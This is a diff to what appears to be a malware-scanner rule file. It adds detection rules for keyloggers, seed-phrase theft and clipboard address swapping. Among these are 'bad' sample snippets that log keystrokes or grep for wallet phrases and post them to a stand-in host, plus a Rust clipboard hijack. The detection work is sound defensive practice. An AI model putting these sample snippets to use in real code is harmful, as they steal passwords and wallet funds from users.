@@ -44,6 +44,9 @@ _KEY_FILES = (
     r"|\.(?:bash|zsh|mysql|psql|python)_history$|\.cargo\W+credentials|\.vault-token$"
     r"|\.password-store|\.gnupg\W+(?:private|secring)|serviceaccount\W+token$|\.kdbx$/"
 )
+# Twelve or 24 words, and names of what wallets keep.
+_PHRASE = r"/(?:\[a-z[^\]]*\]|\\w)(?:\{\d+,\d+\}|[+*])?(?:\\b)?(?: |\\s|\[[^\]]*\])[+*]?\)\{(?:11|12|23|24)/"
+_WALLETS = r"/(?i)(?:seed|mnemonic|keystore|metamask)\b.*[|].*(?:seed|mnemonic|keystore|metamask|wallet)/"
 _ADDRESS = (
     r"/\b[\^]?(?:\(\?:)?\[?(?:bc1|13)"
     r"\]?.*\[a-km-zA-HJ-NP-Z1-9\]\{2[0-9],3[0"
@@ -346,6 +349,10 @@ RULES = (
                 "electron.clipboard.writeText(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
                 "clipboardy.write(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
             ),
+            "rust": (
+                ".set_text(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
+                "cli_clipboard.set_contents(0: /^(?:0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/)",
+            ),
         },
         bad={
             "python": (
@@ -358,6 +365,10 @@ RULES = (
                 "abababababababababababababababababababab');\n",
                 "document.addEventListener('copy', (event) => {\n  event.clipboardData.setData('text/plain', '0x5cE4b8A19d03F72E6cA1857bD94f02E3a6C8d10B');\n});\n",
             ),
+            "rust": (
+                "fn main() { arboard::Clipboard::new().unwrap()"
+                '.set_text("0x4aD7c29F60b1835E9dC2F84076eBa1D35c98E60F"); }\n',
+            ),
         },
         good={
             "python": ("import re\nre.match('^0x[a-fA-F0-9]{40}$', address)\n",),
@@ -365,6 +376,7 @@ RULES = (
                 "navigator.clipboard.writeText(address);\n",
                 "document.addEventListener('copy', (event) => {\n  event.clipboardData.setData('text/plain', window.getSelection().toString());\n});\n",
             ),
+            "rust": ("fn main() { cli_clipboard::set_contents(text); }\n",),
         },
     ),
     Rule(
@@ -529,7 +541,7 @@ RULES = (
         "theft",
         MALICE,
         MEDIUM,
-        UNSURE,
+        LIKELY,
         506,
         "A function that sends data is replaced for the whole program",
         "Whatever other code sends, tokens and payments among it, passes through here "
@@ -548,6 +560,7 @@ RULES = (
                 "ethers.Wallet.prototype.sendTransaction = dynamic",
                 "ethers.Wallet.prototype.signTransaction = dynamic",
                 ".Wallet.prototype.sendTransaction = dynamic",
+                ".Wallet.prototype.signTransaction = dynamic",
                 "web3.eth.sendTransaction = dynamic",
                 "@solana.web3.js.Connection.prototype.sendTransaction = dynamic",
             ),
@@ -569,6 +582,98 @@ RULES = (
         good={
             "javascript": ("ethereum.request({ method: 'eth_accounts' });\n",),
             "python": ("import getpass\ngetpass.getpass()\n",),
+        },
+    ),
+    Rule(
+        "keys-sent",
+        "theft",
+        MALICE,
+        HIGH,
+        LIKELY,
+        200,
+        "Pressed keys are listened to in a file that sends",
+        "What is typed holds passwords; a listener that only reacts need not send.",
+        "Do not run it.",
+        {
+            "python": (
+                "pynput.keyboard.Listener() @with-sending",
+                "keyboard.on_press() @with-sending",
+                "keyboard.on_release() @with-sending",
+                "keyboard.hook() @with-sending",
+                "keyboard.record() @with-sending",
+            ),
+            "javascript": (
+                "iohook.on(0: 'keydown' | 'keypress' | 'keyup') @with-sending",
+                ".addEventListener(0: 'keydown' | 'keypress' | 'keyup') @with-beacon",
+            ),
+        },
+        bad={
+            "python": (
+                "import keyboard, requests\nkeyboard.on_press(keys.append)\n"
+                "def flush():\n    requests.post('https://a.invalid', data=str(keys))\n",
+            ),
+            "javascript": (
+                "document.addEventListener('keydown', (e) => keys.push(e.key));\n"
+                "setInterval(() => navigator.sendBeacon('https://a.invalid', keys), 9e3);\n",
+            ),
+        },
+        good={
+            "python": ("import keyboard\nkeyboard.on_press(jump)\n",),
+            "javascript": (
+                "document.addEventListener('keydown', (e) => fetch('/search'));\n",
+            ),
+        },
+    ),
+    Rule(
+        "seed-phrases-sought",
+        "theft",
+        MALICE,
+        HIGH,
+        LIKELY,
+        522,
+        "Phrases or files of wallets are looked for in a file that sends",
+        "Whoever has the phrase has the money.",
+        "Do not run it.",
+        {
+            "python": (
+                f"re.*(0: {_PHRASE}) @with-sending",
+                f"re.*(0: {_WALLETS}) @with-sending",
+            ),
+            "javascript": (
+                f"node regex(0: {_PHRASE}) @with-sending",
+                f"node regex(0: {_WALLETS}) @with-sending",
+                f"RegExp(0: {_PHRASE}) @with-sending",
+                f"RegExp(0: {_WALLETS}) @with-sending",
+            ),
+            "rust": (
+                f"regex.Regex.new(0: {_PHRASE}) @with-sending",
+                f"regex.Regex.new(0: {_WALLETS}) @with-sending",
+            ),
+        },
+        bad={
+            "python": (
+                "import re, requests\nWORDS = re.compile(r'(?:[a-z]{3,8} ){11}[a-z]+')\n"
+                "def send(text):\n    requests.post('https://a.invalid', text)\n",
+            ),
+            "javascript": (
+                "const files = /(seed|mnemonic|wallet).*txt$/;\n"
+                "const send = (text) => fetch('https://a.invalid', { body: text });\n",
+            ),
+            "rust": (
+                'fn main() { let words = regex::Regex::new(r"([a-z]+ ){11}[a-z]+");\n'
+                'ureq::post("https://a.invalid").send_string(&text); }\n',
+            ),
+        },
+        good={
+            "python": (
+                "import re\nWORDS = re.compile(r'(?:[a-z]{3,8} ){11}[a-z]+')\n",
+            ),
+            "javascript": (
+                "const files = /(red|green).*txt$/;\nfetch('https://a.invalid');\n",
+            ),
+            "rust": (
+                'fn main() { let words = regex::Regex::new(r"([a-z]+ ){11}[a-z]+"); }\n',
+            ),
         },
     ),
     Rule(
